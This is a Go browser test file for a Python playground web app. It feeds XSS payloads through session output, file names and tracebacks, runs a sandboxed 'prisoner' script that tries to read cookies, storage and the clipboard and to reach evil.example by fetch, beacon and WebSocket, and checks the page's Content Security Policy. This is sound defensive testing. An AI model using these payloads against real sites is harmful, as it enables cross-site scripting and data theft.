package browser_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/chromedp/chromedp/kb"
)

// payload is HTML that would do harm wherever a page made it part of itself: each part sets a mark, asks a stranger, or both.
const payload = `"'></pre></script><script>top.__pwned=1</script><img src=x onerror="top.__pwned=2"><img src="http://evil.example/pixel">` +
	`<svg onload="top.__pwned=3"></svg><iframe src="http://evil.example/frame"></iframe><iframe srcdoc="<script>top.__pwned=4</script>"></iframe>` +
	`<a id=linked href="javascript:top.__pwned=5" target=_top>link</a><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/meta">` +
	`<link rel=stylesheet href="http://evil.example/style"><link rel=dns-prefetch href="//evil.example"><style>@import "http://evil.example/import";body{background:url(http://evil.example/css)}</style>` +
	`<form id=app action="http://evil.example/form"><input name=q autofocus onfocus="top.__pwned=6"></form><details open ontoggle="top.__pwned=7">x</details>` +
	`<video src="http://evil.example/video"></video><object data="http://evil.example/object"></object><embed src="http://evil.example/embed">`

// Everything that a session can say is shown as text, or in a frame that can do nothing.
func TestAttack_NothingThatASessionSaysIsRun(t *testing.T) {
	p := newTab(t, open, 1280, 800)
	p.enter()
	p.run(`import sys
evil = `+pythonString(payload)+`
print(evil); print(evil, file=sys.stderr); print("\x1b]8;;javascript:top.__pwned=8\x07link\x1b]8;;\x07\x1b[31m" + evil)
for form in ("text/plain", "text/markdown", "text/latex", "text/html", "image/svg+xml", "image/png", "application/json", "application/vnd.fastpyrepl.table+json", "text/" + evil):
    display({form: evil}, raw=True)
display({"text/html": evil, "text/plain": evil, "text/markdown": evil}, raw=True)
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='top.__pwned=9'><script>top.__pwned=10</script><image href='http://evil.example/svg'/></svg>"}, raw=True)
display({"application/json": {evil: [evil, {"__proto__": {"pwned": evil}}]}}, raw=True)
display({"application/vnd.fastpyrepl.table+json": {"columns": [evil, evil], "index": {"names": [evil], "rows": [[evil]]}, "rows": [[evil, 1]], "total_rows": evil, "total_columns": evil}}, raw=True)
display({"image/png": "x' onerror='top.__pwned=11"}, raw=True)`, "ok")
	p.until("every frame has its height", `(frames => frames.length === 2 && frames.every((el) => el.style.height))([...document.querySelectorAll('.html-frame')])`)
	// All forms of the value that has several.
	eval[any](p, last+`.querySelectorAll('.forms button').forEach((button) => button.click())`)
	// A picture that is none is an error of the picture alone.
	p.begin("name = input(" + pythonString(payload) + ")\nclass " + "Evil(Exception): pass\nEvil.__name__ = Evil.__qualname__ = name\nraise Evil(name)")
	p.until("it asks", last+`.querySelector('.ask')`)
	p.insert(payload)
	p.press(kb.Enter)
	p.ends("error")
	p.wants("the traceback", p.output(), "onerror")
	p.run("open('<img src=x onerror=top.__pwned=12>\\x1b[31m\\u202e', 'w').close()", "ok")
	p.click("#files-tab")
	p.until("its files are listed", `document.querySelector('#files .name')?.textContent.startsWith('<img')`)
	foreign := eval[[]string](p, `[...document.querySelectorAll('.regions :is(script, iframe:not(.html-frame), object, embed, base, link, meta, style, video, a, form:not(.ask), [onerror], [onload]), img:not([src^="data:image/"], .cm-widgetBuffer)')].map((el) => el.outerHTML)`)
	if len(foreign) != 0 {
		t.Errorf("the page has %q", foreign)
	}
	p.shot("attack")
}

// HTML whose scripts somebody has let run is alone in the world.
func TestAttack_ScriptsThatMayRunReachNothing(t *testing.T) {
	p := newTab(t, open, 1280, 800)
	p.enter()
	p.begin("display({'text/html': " + pythonString(prisoner) + "}, raw=True)")
	p.ends("ok")
	p.until("there is a button for its scripts", last+`.querySelector('.cell-outputs button')`)
	if said := eval[int](p, "__said.filter((m) => m.prisoner).length"); said != 0 {
		t.Fatal("the scripts ran without being let")
	}
	p.click(".cell-outputs button")
	p.until("the scripts have tried all", `__said.some((m) => m.prisoner)`)
	tried := eval[map[string]string](p, `__said.find((m) => m.prisoner).prisoner`)
	for name, got := range tried {
		want := "refused"
		if name == "ran" {
			want = "yes"
		}
		if got != want {
			t.Errorf("%s: %s", name, got)
		}
	}
	if len(tried) < 14 {
		t.Errorf("it tried %d ways alone: %v", len(tried), tried)
	}
	if tabs := p.tabs(); tabs != 1 {
		t.Errorf("there are %d tabs", tabs)
	}
	// What it says to the page does no harm: heights are bounded, all else is not looked at.
	if height := eval[int](p, `document.querySelector('.html-frame').clientHeight`); height > 700 {
		t.Errorf("the frame is %d pixels high", height)
	}
	p.run("1 + 1", "ok")
}

// prisoner is HTML that tries to get out, and tells how that went.
const prisoner = `<p>prisoner</p><script>
(async () => {
	const tried = { ran: 'yes' };
	const attempt = async (name, escape) => {
		try { tried[name] = (await escape()) ? 'worked' : 'refused'; } catch { tried[name] = 'refused'; }
	};
	const never = new Promise((resolve) => setTimeout(resolve, 1500, false));
	const loads = (el, src) => new Promise((resolve) => {
		el.onload = () => resolve(true);
		el.onerror = () => resolve(false);
		Object.assign(el, src);
		document.body.append(el);
	});
	await attempt('document', () => parent.document.title);
	await attempt('top', () => { top.__pwned = 20; return true; });
	await attempt('storage', () => sessionStorage.length + 1);
	await attempt('local storage', () => localStorage.length + 1);
	await attempt('cookies', () => document.cookie + 'x');
	await attempt('database', () => indexedDB.open('x'));
	await attempt('origin', () => self.origin !== 'null');
	await attempt('api', () => fetch('/v1/sessions'));
	await attempt('api without cors', () => fetch('/execute', { method: 'POST', mode: 'no-cors', body: '{"code":"1"}' }));
	await attempt('stranger', () => fetch('http://evil.example/', { mode: 'no-cors' }));
	await attempt('beacon', () => navigator.sendBeacon('http://evil.example/beacon') && false);
	await attempt('socket', () => new Promise((resolve) => { const s = new WebSocket('ws://evil.example/'); s.onopen = () => resolve(true); s.onerror = () => resolve(false); }));
	await attempt('events', () => new Promise((resolve) => { const s = new EventSource('http://evil.example/'); s.onopen = () => resolve(true); s.onerror = () => resolve(false); }));
	await attempt('picture', () => loads(new Image(), { src: 'http://evil.example/picture' }));
	await attempt('script', () => loads(document.createElement('script'), { src: 'http://evil.example/script' }));
	await attempt('style', () => loads(document.createElement('link'), { rel: 'stylesheet', href: 'http://evil.example/style' }));
	await attempt('worker', () => new Worker(URL.createObjectURL(new Blob([''])))  && never);
	await attempt('window', () => open('http://evil.example/window'));
	await attempt('navigation of the tab', () => { top.location = 'http://evil.example/top'; return true; });
	await attempt('form', () => { const form = document.createElement('form'); form.action = 'http://evil.example/form'; document.body.append(form); form.submit(); return false; });
	await attempt('download', () => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x'; a.click(); return false; });
	await attempt('dialog', () => { alert('x'); return confirm('x'); });
	await attempt('clipboard', () => navigator.clipboard.readText());
	parent.postMessage({ height: 1e9 }, '*');
	parent.postMessage({ ready: true }, '*');
	parent.postMessage(null, '*');
	parent.postMessage({ prisoner: tried }, '*');
})();
</script>`

// Were there a hole in the page's own code, the policy would still hold.
func TestAttack_ThePolicyHoldsByItself(t *testing.T) {
	p := newTab(t, open, 1280, 800)
	p.enter()
	p.expect(`^policy: |^security: |^request: http://evil\.example/|Content Security Policy`)
	for _, tc := range []struct{ name, attempt, want string }{
		{"HTML of text", `try { document.createElement('div').innerHTML = '<b>x</b>'; 'worked' } catch (err) { err.name }`, "TypeError"},
		{"a policy for it", `try { trustedTypes.createPolicy('default', { createHTML: (text) => text }); 'worked' } catch (err) { err.name }`, "TypeError"},
		{"code of text", `try { setTimeout('window.__pwned = 30'); 'worked' } catch (err) { err.name }`, "TypeError"},
		{"an inline script", `(() => { const s = document.createElement('script'); try { s.text = 'window.__pwned = 31' } catch (err) { return err.name } document.body.append(s); return 'worked' })()`, "TypeError"},
		{"an inline handler", `(() => { const b = document.createElement('button'); try { b.setAttribute('onclick', 'window.__pwned = 32') } catch (err) { return err.name } b.click(); return typeof window.__pwned })()`, "TypeError"},
		{"a stranger", `fetch('http://evil.example/').then(() => 'worked', (err) => err.name)`, "TypeError"},
		{"a stranger's picture", `new Promise((resolve) => { const i = new Image(); i.onload = () => resolve('worked'); i.onerror = () => resolve('refused'); i.src = 'http://evil.example/' })`, "refused"},
	} {
		if got := eval[string](p, tc.attempt); got != tc.want {
			t.Errorf("%s: %s, want %s", tc.name, got, tc.want)
		}
	}
	// Nobody can lay the page, or the frame of output, below a page of their own, nor send requests from there.
	for _, site := range []string{"cross-site", "same-site"} {
		for _, path := range []string{"/", "/playground/output", "/playground/main.js"} {
			if status := framed(t, open.URL+path, site); status != 403 {
				t.Errorf("%s in a frame of another site: %d", path, status)
			}
		}
	}
}

// framed is the status that a browser gets for a frame in a page of another site.
func framed(t *testing.T, url, site string) int {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for name, value := range map[string]string{"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"} {
		req.Header.Set(name, value)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// pythonString is text as Python has it.
func pythonString(text string) string {
	escaped := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\t", `\t`).Replace(text)
	return `"` + escaped + `"`
}
